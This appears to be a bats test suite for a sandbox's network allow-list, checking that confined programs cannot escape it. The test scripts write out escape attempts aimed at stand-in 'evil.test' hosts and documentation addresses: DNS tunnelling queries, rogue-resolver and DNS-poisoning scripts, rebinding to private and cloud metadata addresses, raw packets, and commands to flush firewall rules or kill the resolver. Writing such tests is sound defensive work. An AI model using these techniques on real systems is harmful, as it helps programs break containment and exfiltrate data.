#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
#
# Programs that want to get round --allow: by names, by the resolver, by what a name leads to, by packets of
# all kinds, by namespaces of their own, by force. The same way leads there without --allow, or out of the
# sandbox.
#
# Quoted text is for the shell inside; capture sets status, output and stderr.
# shellcheck disable=SC2016,SC2030,SC2031,SC2034,SC2154

load ../lib/common
load ../live/live
load ../live/cow
load world

setup_file() {
	world_begin
}

teardown_file() {
	world_end
}

setup() {
	net_setup
	need dnsmasq python3 dig curl
	printf '203.0.113.10 2001:db8:77::10\n' >"$WORLD/changing"
}

teardown() {
	net_teardown
}

# allowed WORD... -- CMD...: with these words of --allow.
allowed() {
	local -a words
	while [ "$1" != -- ]; do
		words+=(--allow "$1")
		shift
	done
	sbh -p shell "${words[@]}" "$@"
}

# --- names

@test "no tunnel by names: what is not listed is never asked for, whatever the type" {
	local name=onsxq4tforwa script
	script='for type in A AAAA TXT MX NULL NS SRV CNAME SOA PTR ANY HTTPS TYPE65400; do
		for name in '"$name.evil.test $name.good.test tunnel.$name.test $name. evil.test.$name \
a.b.c.d.$name.good.test $name.notgood.test"'; do
			dig +short +time=10 +tries=1 $name $type; dig +short +tcp +time=10 +tries=1 $name $type; done; done
		dig +short +time=10 +tries=1 -x 203.0.113.66'
	LIMIT=120 allowed good.test -- sh -c "$script"
	exited 0
	lacks 'reply|timed out|no servers'
	unasked "$name|evil|in-addr"
	# The same names are asked for where everything is open.
	sbh -p shell --net private -- dig +short +time=10 +tries=1 "tunnel.$name.test" TXT
	printed '"reply"'
	asked "tunnel.$name.test TXT"
}

@test "no tunnel by names: a listed name is not what is above or beside it" {
	allowed sub.good.test '*.other.test' -- sh -c '
		for name in good.test test . xsub.good.test sub.good.test.evil.test other.test xother.test; do
		dig +short +time=10 +tries=1 $name TXT; dig +short +time=10 +tries=1 $name; done'
	exited 0
	# It is below a listed one.
	unasked ' (good\.test|test|xsub.*|sub\.good\.test\..*|other\.test|xother\.test) '
	allowed sub.good.test '*.other.test' -- dig +short +time=10 +tries=1 a.other.test TXT
	asked 'a\.other\.test TXT'
}

@test "no other resolver: not the upstream by itself, not that of the host, none out there" {
	allowed good.test -- sh -c '
		for server in 10.0.2.3 fd00::3 203.0.113.53 203.0.113.88 2001:db8:77::53 2001:db8:77::88 10.0.2.2; do
			dig +time=1 +tries=1 @$server secret.evil.test TXT & dig +time=1 +tries=1 @$server good.test &
			dig +tcp +time=1 +tries=1 @$server secret.evil.test TXT &
			dig +tcp +time=1 +tries=1 @$server good.test & done; wait'
	shows 'no servers could be reached|timed out|connection refused'
	lacks 'status:'
	unasked .
	untouched dns dns2
	sbh -p shell --net private -- dig +short +time=10 +tries=1 @203.0.113.88 tunnel.evil.test TXT
	printed '"reply"'
	reached dns2
}

@test "the host's own resolver is not asked by another way either" {
	# It listens on the host's loopback, and the driver would lead there.
	HOST_SETUP=$OWN_ETC'echo nameserver 127.0.0.53 >/etc/resolv.conf'
	: >"$WORLD/queries.host"
	allowed good.test -- sh -c 'dig +short good.test; dig +time=1 +tries=1 @10.0.2.3 secret.evil.test
		dig +time=1 +tries=1 @10.0.2.2 secret.evil.test; dig +time=1 +tries=1 @127.0.0.53 secret.evil.test'
	[ "${lines[0]}" = 203.0.113.10 ] || report 'the listed name is not resolved'
	grep -q 'good.test A' "$WORLD/queries.host" || fail 'the resolver was not asked'
	never grep secret "$WORLD/queries.host"
}

# --- where names lead

@test "a name that leads to the host, to a private network or to the metadata is not followed" {
	local name
	for name in private.test meta.test mixed.test mapped.test loop.test zero.test; do
		world_forget
		allowed "$name" good.test -- sh -c 'for way in -4 -6; do for port in 80 443 8000; do
			curl -sS --max-time 3 $way http://'"$name"':$port/ | grep -v "world 203\|world 2001"; done; done
			for address in 10.77.0.5 "[fd77::5]" 169.254.169.254 10.0.2.2:8000 "[fd00::2]:8000" \
				"[::ffff:10.77.0.5]" "[::ffff:169.254.169.254]"; do
				curl -sS --max-time 3 "http://$address/"; done'
		printed ''
		untouched private meta
	done
	sbh -p shell --net private -- curl -sS --max-time 3 -4 http://private.test/
	printed 'world 10.77.0.5'
}

@test "it is where the address is listed as well" {
	allowed private.test 10.77.0.5 -- curl -sS --max-time 3 -4 http://private.test/
	printed 'world 10.77.0.5'
	allowed private.test 10.77.0.0/24 fd77::/64 -- sh -c 'curl -sS --max-time 3 -4 http://private.test/
		curl -sS --max-time 3 -6 http://private.test/'
	printed $'world 10.77.0.5\nworld fd77::5'
	world_forget
	# Of another port, or another address of the block, it is not.
	allowed private.test 10.77.0.5:443 -- curl -sS --max-time 3 -4 http://private.test/
	exited 7
	allowed private.test 10.77.0.6 -- curl -sS --max-time 3 -4 http://private.test/
	[ "$status" -ne 0 ] || report reached
	untouched private
	# All addresses are not those of the link, which clouds have their metadata at; these themselves are.
	allowed 0.0.0.0/0 -- curl -sS --max-time 3 http://169.254.169.254/
	exited 7
	untouched meta
	allowed 169.254.169.254 -- curl -sS --max-time 3 http://169.254.169.254/
	printed 'world 169.254.169.254'
}

@test "all addresses together do not open the host's loopback" {
	allowed 0.0.0.0/0 ::/0 10.0.2.2 fd00::2 10.0.0.0/8 -- sh -c '
		curl -sS --max-time 3 http://10.0.2.2:8000/; curl -sS --max-time 3 "http://[fd00::2]:8000/"'
	exited 7
	printed ''
}

@test "a name that changes what it leads to: no way to what is private, no other port" {
	begin_h run -p shell --allow changing.test:80 -- sh -c '
		curl -sS --max-time 3 -4 http://changing.test/; echo ready
		until [ -e go1 ]; do sleep 0.05; done
		until [ "$(dig +short changing.test A)" != 203.0.113.10 ]; do sleep 0.2; done
		curl -sS --max-time 3 -4 http://changing.test/; curl -sS --max-time 3 http://10.77.0.5/
		touch went1; until [ -e go2 ]; do sleep 0.05; done
		until [ "$(dig +short changing.test A)" = 203.0.113.66 ]; do sleep 0.2; done
		curl -sS --max-time 3 -4 https://changing.test/; curl -sS --max-time 3 -k https://203.0.113.66/
		echo end'
	printf '10.77.0.5 fd77::5\n' >"$WORLD/changing"
	touch go1
	wait_for 10 test -e went1 || fail 'the name did not change'
	printf '203.0.113.66 2001:db8:77::66\n' >"$WORLD/changing"
	touch go2
	LIMIT=20 ended
	printed $'world 203.0.113.10\nready\nend'
	# Where a listed name leads in public is its owner's; but only to the port that is listed.
	untouched private evil
	# The address is reached out of it.
	outside_h curl -sS --max-time 3 -4 http://changing.test/
	printed 'world 203.0.113.66'
}

# --- packets

@test "every kind of packet, with both drivers" {
	local way driver
	for driver in slirp4netns pasta; do
		sbh -p shell --set "Network.Driver=$driver" --allow good.test -- \
			python3 ways.py 203.0.113.66 2001:db8:77::66
		exited 0
		untouched evil dns dns2
		# Nothing waits for a time-out; what is a right of root is none here.
		lacks '^[a-z0-9-]+ timeout$'
		for way in raw4 raw4-icmp raw6-icmp packet mark4 mark-upstream4 mark-upstream6; do
			grep -Eq "^$way (EPERM|EAFNOSUPPORT|EPROTONOSUPPORT|EACCES)$" <<<"$output" ||
				report "$way" || return 1
		done
	done
	sbh -p shell --net private -- python3 ways.py 203.0.113.66 2001:db8:77::66
	reached evil
}

@test "every kind of packet, from a root of its own namespaces" {
	local way
	sbh -p nested --allow good.test -- unshare -Ur sh -c '
		for word in "nft flush ruleset" "nft add table inet mine" "ip route add 203.0.113.66 dev lo" \
			"ip link set lo down" "ip addr add 10.0.2.7/24 dev tap0" "tc qdisc add dev tap0 root noqueue" \
			"ip link add v0 type veth peer name v1" "sysctl -qw net.ipv4.ip_forward=1"; do
			$word 2>/dev/null && echo "could: $word"; done
		python3 ways.py 203.0.113.66 2001:db8:77::66'
	exited 0
	lacks '^could'
	untouched evil dns dns2
	for way in raw4 raw4-icmp raw6-icmp packet mark4 mark-upstream4; do
		grep -Eq "^$way (EPERM|EAFNOSUPPORT|EPROTONOSUPPORT|EACCES)$" <<<"$output" ||
			report "$way" || return 1
	done
	# In a network of its own it has these rights, and nobody to speak with.
	sbh -p nested --allow good.test -- unshare -Urn sh -c 'nft add table inet mine && nft list ruleset
		ip link set lo up; python3 ways.py 203.0.113.66 2001:db8:77::66'
	shows 'table inet mine'
	lacks 'sandbox'
	untouched evil dns dns2
	sbh -p nested --allow good.test -- unshare -Ur sh -c 'nsenter -t 1 -n true; nsenter -t 1 -U true'
	[ "$status" -ne 0 ] || report "PID 1's namespaces"
}

@test "a host that is not listed cannot be made one that has spoken first" {
	# IPv6 lets any program bind to an address that is not its own.
	allowed good.test -- python3 established.py 2001:db8:77::66 7
	untouched evil
	[ "$status" -ne 0 ] || report 'it was answered'
	sbh -p shell --net private -- python3 established.py fd00::2 8007
	[ "$status" -ne 0 ] || report 'the loopback answered'
	# With this the driver does not close it by itself.
	sbh -p shell --publish 8080:80/udp -- python3 established.py fd00::2 8007
	[ "$status" -ne 0 ] || report 'the loopback answered'
	# A connection that may be there is.
	allowed good.test -- python3 udp.py 2001:db8:77::10 7
	exited 1 # no name has led there yet
	allowed good.test -- sh -c 'getent ahostsv6 good.test >/dev/null; python3 udp.py 2001:db8:77::10 7'
	printed 'world 2001:db8:77::10 hello'
}

@test "the resolver takes no answer but the host's" {
	# Over IPv4 nobody can have the upstream's address; this host has IPv6 only.
	HOST_SETUP=$OWN_ETC'echo nameserver 2001:db8:77::53 >/etc/resolv.conf'
	allowed '*.good.test' -- sh -c 'for i in 1 2 3 4; do
		python3 poison.py slow$i.good.test fd00::3 2001:db8:77::66; done
		curl -sS --max-time 3 "http://[2001:db8:77::66]/"'
	lacks '^2001:db8:77::66$'
	untouched evil
}

@test "who takes the resolver's port deceives himself only" {
	allowed good.test -- python3 -c '
import socket, struct, subprocess, threading
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
	s.bind(("127.0.0.1", 53))
except OSError:
	s.bind(("127.0.0.2", 53))
def serve():
	while True:
		query, peer = s.recvfrom(4096)
		s.sendto(query[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0)
			+ query[12:].split(b"\0\0\1\0\1")[0] + b"\0\0\1\0\1"
			+ b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.66"), peer)
threading.Thread(target=serve, daemon=True).start()
at = s.getsockname()[0]
subprocess.run(["dig", "+short", "+noedns", "+time=1", "+tries=1", "@" + at, "good.test"])
subprocess.run(["curl", "-sS", "--max-time", "3", "http://203.0.113.66/"])'
	untouched evil
	lacks '^world'
}

@test "the program cannot change the network, its files and its devices" {
	local word
	for word in 'nft flush ruleset' 'nft list ruleset' 'ip route add 203.0.113.66 via 10.0.2.2' \
		'ip route del default' 'ip link set tap0 down' 'ip link add v0 type veth' \
		'ip link add d0 type dummy' 'ip addr add 10.0.2.7/24 dev tap0' \
		'ip rule add fwmark 1 lookup main' 'tc qdisc add dev tap0 root noqueue' 'ip netns add x' \
		'unshare -n true' 'unshare -Un true' 'echo 1 >/proc/sys/net/ipv4/ip_forward' \
		'echo 0 >/proc/sys/net/ipv4/ip_unprivileged_port_start' \
		'echo nameserver 203.0.113.88 >/etc/resolv.conf' 'rm /etc/resolv.conf' 'exec 3<>/dev/net/tun' \
		'kill -9 $(pgrep dnsmasq)' 'kill -9 $(pgrep slirp4netns)' 'ls /proc/1/ns/net/..'; do
		allowed good.test -- sh -c "$word"
		[ "$status" -ne 0 ] || report "it could: $word" || return 1
	done
}

@test "no right that goes round it can be had by a profile" {
	local key
	for key in Capabilities.AmbientCapabilities Capabilities.CapabilityBoundingSet; do
		for cap in CAP_NET_ADMIN CAP_NET_RAW; do
			sbh -p shell --allow good.test --set "$key=$cap" -- true
			refused "${key#*.}|$cap"
		done
	done
}

# --- by force

@test "without the resolver names end, and nothing opens" {
	local pid
	begin_h run -n forced -p shell --allow good.test -- sh -c '
		curl -sS --max-time 3 -4 http://good.test/; echo ready; until [ -e go ]; do sleep 0.05; done
		curl -sS --max-time 3 -4 http://good.test/; curl -sS --max-time 3 -4 http://other.test/
		curl -sS --max-time 3 http://203.0.113.66/; curl -sS --max-time 3 "http://[2001:db8:77::66]/"
		dig +time=1 +tries=1 @10.0.2.3 evil.test; curl -sS --max-time 3 http://203.0.113.10/; echo end'
	pid=$(children "$launcher" dnsmasq)
	[ -n "$pid" ] || fail 'no resolver'
	kill -KILL "$pid"
	wait_for 5 gone "$pid"
	touch go
	LIMIT=20 ended
	[ "$(grep -c '^world' <<<"$output")" = 2 ] || report 'not what was there before'
	shows '^end$'
	untouched evil other
	unasked 'evil|other'
}

@test "more refusals than the launcher can hear of: a number, and that it is the least" {
	begin_h -n one --json -p shell --allow good.test -- python3 -c '
import os, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("ready", flush=True)
while not os.path.exists("go"): time.sleep(0.05)
for i in range(30000):
	try: s.sendto(b"x", ("203.0.113.66", 1 + i))
	except PermissionError: pass
open("sent", "w").close()
while not os.path.exists("gone"): time.sleep(0.05)'
	kill -STOP "$launcher"
	wait_for 10 grep -q '^State:.T' "/proc/$launcher/status"
	touch go
	wait_for 60 test -e sent
	touch gone
	kill -CONT "$launcher"
	LIMIT=20 ended
	exited 0
	json '0 < j["refused"]["total"] < 30000 and j["refused"]["at_least"]' <<<"$stderr"
}

@test "5,000 refused connections are counted, and everything goes on" {
	LIMIT=60 sbh run --json -p shell --allow good.test -- python3 -c '
import socket, subprocess
refused = 0
for i in range(5000):
	s = socket.socket()
	s.settimeout(60)
	try:
		s.connect(("203.0.113.66", 1 + i))
	except ConnectionRefusedError:
		refused += 1
	s.close()
print(refused, flush=True)
subprocess.run(["curl", "-sS", "--max-time", "5", "-4", "http://good.test/"])'
	exited 0
	printed $'5000\nworld 203.0.113.10'
	json 'j["refused"]["total"] >= 5000 or j["refused"]["at_least"]' <<<"$stderr"
	json '0 < len(j["refused"]["connections"]) <= 1000' <<<"$stderr"
	json 'all(c["host"] == "203.0.113.66" for c in j["refused"]["connections"])' <<<"$stderr"
	untouched evil
}

@test "a flood of names, and of datagrams from many sides at once" {
	LIMIT=60 sbh -p shell --allow good.test -- python3 -c '
import os, socket, subprocess
for k in range(4):
	if os.fork() == 0:
		for i in range(500):
			name = "n%d-%d.evil.test" % (k, i)
			try:
				socket.create_connection((name, 80), 2)
			except OSError:
				pass
			try:
				socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.66", 7))
			except OSError:
				pass
		os._exit(0)
for k in range(4):
	os.wait()
subprocess.run(["curl", "-sS", "--max-time", "5", "-4", "http://good.test/"])'
	exited 0
	printed 'world 203.0.113.10'
	said '^sandbox: [0-9]{4,} connections refused by AllowHosts \(first: [^ ]+\)$'
	untouched evil
	unasked evil
}

@test "a name cannot write on the terminal" {
	allowed good.test -- python3 -c '
import socket, struct
name = b"\x1b[31mred\n\x07.test"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.sendto(struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\x0a" + name[:10] + b"\x04test\0"
	+ struct.pack("!HH", 1, 1), ("127.0.0.1", 53))
try:
	print(len(s.recv(512)) > 0)
except OSError as e:
	print(e)
try:
	socket.create_connection(("240.0.0.1", 80), 2)
except OSError:
	pass'
	exited 0
	said 'refused by AllowHosts'
	one_line
}

# To the host's loopback, where the program is given no way to.
SPEAK='import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"tap0\0")
try:
	s.sendto(b"stray", ("127.0.0.1", 7777))
	print("sent")
except OSError as error:
	print(error.strerror)'

@test "the loopback's address, sent out of the device" {
	local driver
	for driver in slirp4netns pasta; do
		listen in_host 127.0.0.1
		sbh -p shell --net private --set "Network.Driver=$driver" -- python3 -c "$SPEAK"
		printed 'Operation not permitted'
		sbh -p shell --allow 0.0.0.0/0 --set "Network.Driver=$driver" -- python3 -c "$SPEAK"
		printed 'Operation not permitted'
		heard_nothing in_host 127.0.0.1
	done
}

@test "what a question over TCP has made ends with the sandbox" {
	begin_h run -n tcp -p shell --allow good.test -- python3 -c '
import socket, time
kept = [socket.create_connection(("127.0.0.1", 53)) for _ in range(5)]
print("ready", flush=True)
time.sleep(60)'
	kill -KILL "$launcher"
	wait "$launcher" 2>/dev/null || true
	sbh list # which sweeps its entry
	no_leftovers
}

@test "driver and resolver see nobody, and are filtered" {
	local pid
	begin_h run -p shell --allow good.test -- sh -c 'echo ready; exec sleep 60'
	for pid in $(driver_of "$launcher") $(children "$launcher" dnsmasq); do
		for name in pid ipc uts mnt; do
			[ "$(readlink "/proc/$pid/ns/$name")" != "$(readlink "/proc/$launcher/ns/$name")" ] ||
				fail "$(cat "/proc/$pid/comm") is in our namespace: $name" || return 1
		done
		grep -q '^Seccomp:.2$' "/proc/$pid/status" || fail "$(cat "/proc/$pid/comm") has no filter" || return 1
	done
	[ -n "$pid" ]
	kill -KILL "$launcher"
}
